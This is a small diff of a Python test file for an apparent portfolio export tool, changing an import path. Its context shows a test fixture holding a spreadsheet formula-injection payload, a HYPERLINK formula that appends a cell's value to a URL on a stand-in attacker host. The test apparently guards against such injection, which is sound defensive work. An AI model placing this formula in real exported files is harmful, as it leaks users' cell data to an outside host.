@@ -24,7 +24,7 @@ import pytest
 from conftest import Portfolio
 
 from cpdfolio.exchange import MAX_CELL_CHARS, MAX_ROWS
-from cpdfolio.loader import load
+from cpdfolio.records.loader import load
 
 FORMULAS = {
     "equals": '=HYPERLINK("http://evil.example/"&A1,"click")',
